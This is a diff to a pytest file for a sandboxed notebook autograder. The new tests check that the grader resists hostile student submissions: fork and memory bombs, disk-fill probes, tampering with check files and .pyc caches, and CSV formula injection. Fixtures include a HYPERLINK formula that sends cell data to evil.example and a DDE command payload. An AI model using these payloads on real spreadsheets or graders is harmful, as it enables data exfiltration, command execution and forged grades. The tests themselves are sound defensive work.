@@ -2,6 +2,7 @@
 
 import csv
 import os
+import re
 import subprocess
 import sys
 import textwrap
@@ -46,7 +47,7 @@ def weighted_sum(*args):
 """
 
 
-def test_row12_a_small_self_referencing_return_value_is_refused_within_the_time_limit(tmp_path):
+def test_row_12_a_small_self_referencing_return_value_is_refused_within_the_time_limit(tmp_path):
     path = tmp_path / "00_the_question.ipynb"
     nbformat.write(_with_cell(BLANK, BILLION_LAUGHS), path)
     start = time.monotonic()
@@ -57,7 +58,7 @@ def test_row12_a_small_self_referencing_return_value_is_refused_within_the_time_
     assert "too large" in report.verdicts[0].message or "shares" in report.verdicts[0].message, table
 
 
-def test_row12_restore_value_bounds_nodes_and_depth():
+def test_row_12_restore_value_bounds_nodes_and_depth():
     from grade.channel import ReturnValueTooLarge, restore_value
 
     a = [0] * 10
@@ -81,7 +82,7 @@ def _controls(text: str) -> set[str]:
     return {c for c in text if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160}
 
 
-def test_row17_control_characters_in_student_text_are_escaped_in_the_table_and_the_csv(tmp_path):
+def test_row_17_control_characters_in_student_text_are_escaped_in_the_table_and_the_csv(tmp_path):
     report = grade.Report(
         tmp_path / ("x" + ESC + "[2Kname.ipynb"),
         [grade.Verdict("Exercise 0.1", "failed", "not yet right: " + FORGED)],
@@ -98,7 +99,7 @@ def test_row17_control_characters_in_student_text_are_escaped_in_the_table_and_t
     assert not _controls(text.replace("\r\n", "\n")), repr(text)
 
 
-def test_row17_an_exception_with_terminal_escapes_cannot_forge_the_total(tmp_path, capsys):
+def test_row_17_an_exception_with_terminal_escapes_cannot_forge_the_total(tmp_path, capsys):
     path = tmp_path / "00_the_question.ipynb"
     nbformat.write(_with_cell(BLANK, f"raise Exception({FORGED!r})"), path)
     grade_main([str(path)])
@@ -107,7 +108,7 @@ def test_row17_an_exception_with_terminal_escapes_cannot_forge_the_total(tmp_pat
     assert "total: 0/2 passed" in out
 
 
-def test_row18_a_symlinked_submission_is_refused_with_a_note(tmp_path, capsys):
+def test_row_18_a_symlinked_submission_is_refused_with_a_note(tmp_path, capsys):
     secret = tmp_path / "secret.txt"
     secret.write_text("root:*:20228:0:99999:7:::\n", encoding="utf-8")
     (tmp_path / "alice").mkdir()
@@ -146,7 +147,7 @@ def _uid_tasks(uid: int) -> int:
 
 
 @needs_sandbox
-def test_row4_leftover_processes_of_a_sandbox_uid_do_not_reach_the_next_notebook(tmp_path):
+def test_row_4_leftover_processes_of_a_sandbox_uid_do_not_reach_the_next_notebook(tmp_path):
     """512 tasks of the uid a sandbox would have used (a fork bomb's, not yet reaped): the next notebook is unhurt."""
     uid = grade.sandbox._sandbox_uid()
     bomb = subprocess.Popen(
@@ -167,7 +168,7 @@ def test_row4_leftover_processes_of_a_sandbox_uid_do_not_reach_the_next_notebook
 
 
 @needs_sandbox
-def test_row5_a_flood_on_stderr_is_not_read_whole_into_the_grader(tmp_path):
+def test_row_5_a_flood_on_stderr_is_not_read_whole_into_the_grader(tmp_path):
     path = tmp_path / "00_the_question.ipynb"
     flood = (
         'import os\nfor _ in range(32): os.write(2, b"x" * (1 << 24))\nos.write(2, b"\\nlast words\\n")\nos._exit(3)'
@@ -189,7 +190,7 @@ def test_row5_a_flood_on_stderr_is_not_read_whole_into_the_grader(tmp_path):
     assert "exit code" in problem and "last words" in problem, problem
 
 
-def test_row19_in_copy_mode_no_child_of_the_notebook_outlives_grading(tmp_path):
+def test_row_19_in_copy_mode_no_child_of_the_notebook_outlives_grading(tmp_path):
     marker = tmp_path / "written_after_grading"
     path = tmp_path / "00_the_question.ipynb"
     child = f"import time\nwhile True:\n    open({str(marker)!r}, 'w').close()\n    time.sleep(0.2)\n"
@@ -205,3 +206,193 @@ def test_row19_in_copy_mode_no_child_of_the_notebook_outlives_grading(tmp_path):
     marker.unlink()
     time.sleep(2)
     assert not marker.exists(), "a detached child of the notebook outlived grading"
+
+
+def test_row_19_in_copy_mode_tampering_after_the_restore_is_caught(tmp_path):
+    """Something a notebook left behind edits a check after the restore: the next grade is refused, file restored."""
+    target = ROOT / "rnn_attention" / "exercises" / "notebook00.py"
+    original = target.read_bytes()
+    blank = tmp_path / "00_the_question.ipynb"
+    blank.write_bytes(BLANK.read_bytes())
+    try:
+        first = grade.grade(blank, timeout=120, isolation="copy")
+        assert first.problem is None, grade.format_report(first)
+        patch = (
+            "\n\ndef check_weighted_sum(weighted_sum):\n"
+            '    return CheckResult("Exercise 0.1", "passed", "passed: c has the size of one h_j")\n'
+        )
+        target.write_bytes(original + patch.encode())  # as the review's detached child did, 25 s after grading
+        second = grade.grade(blank, timeout=120, isolation="copy")
+        table = grade.format_report(second)
+        assert second.problem and second.problem.startswith("refused:"), table
+        assert "notebook00.py" in second.problem and "as root" in second.problem, table
+        assert "passed" not in [v.status for v in second.verdicts], table
+        assert target.read_bytes() == original
+        third = grade.grade(blank, timeout=120, isolation="copy")  # restored: grading goes on
+        assert third.problem is None and [v.status for v in third.verdicts] == ["not attempted"] * 2, third
+    finally:
+        target.write_bytes(original)
+
+
+def test_row_19_in_copy_mode_a_forged_bytecode_cache_is_removed(tmp_path):
+    """A notebook rewrites the check's .pyc (Python loads a cache whose stamp matches the source): it is removed."""
+    import importlib.util
+    import py_compile
+
+    source = ROOT / "rnn_attention" / "exercises" / "notebook00.py"
+    cache = Path(importlib.util.cache_from_source(str(source)))
+    grade.grading._RESTORED.clear()  # a fresh grading run, whose snapshot has the cache
+    py_compile.compile(str(source), cfile=str(cache))
+    forged = f"open({str(cache)!r}, 'r+b').write(open({str(cache)!r}, 'rb').read()[:16] + b'forged')"
+    path = tmp_path / "00_the_question.ipynb"
+    nbformat.write(_with_cell(BLANK, forged, first=True), path)
+    report = grade.grade(path, timeout=120, isolation="copy")
+    assert any("notebook00" in note and ".pyc" in note for note in report.notes), grade.format_report(report)
+    assert not cache.exists() or b"forged" not in cache.read_bytes()
+
+
+FILL = """
+import os
+def fill(path, limit_mb):
+    written = 0
+    try:
+        with open(path, "wb") as handle:
+            while written < limit_mb:
+                handle.write(b"z" * (1 << 20))
+                written += 1
+            handle.flush()
+        return f"{written} MB, no error"
+    except OSError as error:
+        return f"{written} MB, then {error.strerror}"
+    finally:
+        if os.path.exists(path):
+            os.remove(path)
+"""
+
+
+@pytest.mark.parametrize("isolation", ["sandbox", "copy"])
+def test_row_1_a_memory_bomb_is_a_memory_error_in_its_cell(tmp_path, isolation):
+    if isolation == "sandbox" and not grade.sandbox_available()[0]:
+        pytest.skip("the sandbox needs root and unshare")
+    path = tmp_path / "00_the_question.ipynb"
+    nbformat.write(
+        _with_cell(BLANK, "big = bytearray(4 << 30)\nbig[::4096] = b'1' * len(big[::4096])", first=True), path
+    )
+    report = grade.grade(path, timeout=120, isolation=isolation)
+    table = grade.format_report(report)
+    assert any("MemoryError" in error for error in report.errors), table
+    assert [v.status for v in report.verdicts] == ["not attempted"] * 2, table  # the notebook went on
+
+
+@needs_sandbox
+def test_row_1_tmp_and_dev_shm_are_private_capped_tmpfs(tmp_path):
+    path = tmp_path / "00_the_question.ipynb"
+    probe = FILL + (
+        "raise RuntimeError('shm: ' + fill('/dev/shm/fill', 1024) + '; tmp: ' + fill('/tmp/fill', 1024)"
+        " + '; host /dev/shm seen: ' + str(os.path.exists('/dev/shm/rt-host-marker')))"
+    )
+    nbformat.write(_with_cell(BLANK, probe, first=True), path)
+    marker = Path("/dev/shm/rt-host-marker")
+    marker.write_text("host")
+    try:
+        report = grade.grade(path, timeout=180, isolation="sandbox")
+    finally:
+        marker.unlink()
+    line = next(error for error in report.errors if "shm:" in error)
+    shm, tmp = (int(re.search(rf"{name}: (\d+) MB", line)[1]) for name in ("shm", "tmp"))
+    assert shm <= grade.sandbox.SCRATCH_BYTES["/dev/shm"] >> 20 and "No space left" in line.split(";")[0], line
+    assert tmp <= grade.sandbox.SCRATCH_BYTES["/tmp"] >> 20, line
+    assert "No space left" in line.split(";")[1] or "too large" in line.split(";")[1], line
+    assert "host /dev/shm seen: False" in line, line
+
+
+@needs_sandbox
+def test_row_1_going_over_the_cgroup_memory_limit_is_named(tmp_path, monkeypatch):
+    """Files in tmpfs are RAM that no rlimit sees: the sandbox's cgroup counts them and stops the notebook."""
+    if grade.cgroup.layout() == "none":
+        pytest.skip("no cgroup file system here")
+    monkeypatch.setattr(grade.sandbox, "MEMORY_BYTES", 400 << 20)
+    path = tmp_path / "00_the_question.ipynb"
+    keep = FILL.replace("        if os.path.exists(path):\n            os.remove(path)\n", "        pass\n")
+    nbformat.write(_with_cell(BLANK, keep + "fill('/tmp/a', 300)\nfill(os.path.expanduser('~/b'), 300)", True), path)
+    report = grade.grade(path, timeout=180, isolation="sandbox")
+    table = grade.format_report(report)
+    assert report.problem and "memory limit (400 MB" in report.problem, table
+    assert {v.status for v in report.verdicts} == {"failed"}, table
+
+
+@needs_sandbox
+def test_row_2_filling_the_home_folder_stops_at_its_cap_not_the_grading_disk(tmp_path):
+    path = tmp_path / "00_the_question.ipynb"
+    probe = FILL + "raise RuntimeError('home: ' + fill(os.path.expanduser('~/fill'), 1024))"
+    nbformat.write(_with_cell(BLANK, probe, first=True), path)
+    report = grade.grade(path, timeout=180, isolation="sandbox")
+    line = next(error for error in report.errors if "home:" in error)
+    written = int(line.split("home: ")[1].split(" MB")[0])
+    assert written <= grade.sandbox.SCRATCH_BYTES["home"] >> 20, line
+    assert "No space left" in line or "too large" in line, line
+
+
+def test_row_2_in_copy_mode_one_file_is_capped_by_rlimit_fsize(tmp_path, monkeypatch):
+    monkeypatch.setattr(grade.sandbox, "FILE_BYTES", 64 << 20)
+    path = tmp_path / "00_the_question.ipynb"
+    probe = FILL + "raise RuntimeError('home: ' + fill(os.path.expanduser('~/fill'), 256))"
+    nbformat.write(_with_cell(BLANK, probe, first=True), path)
+    report = grade.grade(path, timeout=180, isolation="copy")
+    line = next(error for error in report.errors if "home:" in error)
+    assert "64 MB, then File too large" in line, line
+
+
+def test_csv_formula_injection_student_text_starting_with_a_formula_sign_gets_a_quote(tmp_path):
+    """Not a row of the review (issue 22 asks for it): a spreadsheet runs a cell starting with = + - @ as a formula."""
+    report = grade.Report(
+        Path("=HYPERLINK(1).ipynb"),  # a submission's own name, as the teacher's batch lists it
+        [
+            grade.Verdict("Exercise 0.1", "failed", '=HYPERLINK("http://evil.example/?"&A1, "grade")'),
+            grade.Verdict("Exercise 0.2", "failed", "+cmd|' /C calc'!A0"),
+            grade.Verdict("Exercise 0.3", "failed", "-2+3"),
+            grade.Verdict("Exercise 0.4", "failed", "@SUM(A1:A9)"),
+            grade.Verdict("Exercise 0.5", "passed", "passed: fine"),
+        ],
+        [],
+        1.0,
+    )
+    grade.write_csv([report], tmp_path / "g.csv")
+    rows = list(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8")))
+    assert [r["message"][:2] for r in rows] == ["'=", "'+", "'-", "'@", "pa"], rows
+    assert {r["notebook"] for r in rows} == {"'=HYPERLINK(1).ipynb"}, rows
+
+
+def test_row_19_a_snapshot_of_another_course_folder_deletes_nothing(tmp_path, monkeypatch):
+    """The restore compares the course with its own snapshot only (a test's copied course once emptied this one)."""
+    other = tmp_path / "course"
+    (other / "rnn_attention").mkdir(parents=True)
+    (other / "rnn_attention" / "x.py").write_text("x = 1\n")
+    monkeypatch.setattr(grade.sandbox, "ROOT", other)
+    snapshot = grade.sandbox.course_files()
+    monkeypatch.undo()
+    with pytest.raises(ValueError, match="not of the course"):
+        grade.sandbox.restore_course(snapshot)
+    assert (ROOT / "rnn_attention" / "__init__.py").exists()
+    grade.grading._RESTORED.update(snapshot=snapshot, root=other, after="x")
+    try:
+        assert grade.grading.tampered_after_restore() == ""
+    finally:
+        grade.grading._RESTORED.clear()
+    assert (ROOT / "rnn_attention" / "__init__.py").exists()
+
+
+def test_row_12_a_sandbox_that_fails_to_start_leaves_no_folder_behind(monkeypatch):
+    """The review found /tmp/grade-* folders left behind; a start that fails half-way now removes its folder."""
+    import tempfile
+
+    before = set(Path(tempfile.gettempdir()).glob("grade-*"))
+
+    def broken(self):
+        raise OSError("no space left while copying the course")
+
+    monkeypatch.setattr(grade.sandbox.Sandbox, "_write_files", broken)
+    with pytest.raises(OSError, match="no space left"):
+        with grade.sandbox.Sandbox([[0, "pass"]], [], time.monotonic() + 60, "copy"):
+            pass
+    assert set(Path(tempfile.gettempdir()).glob("grade-*")) <= before
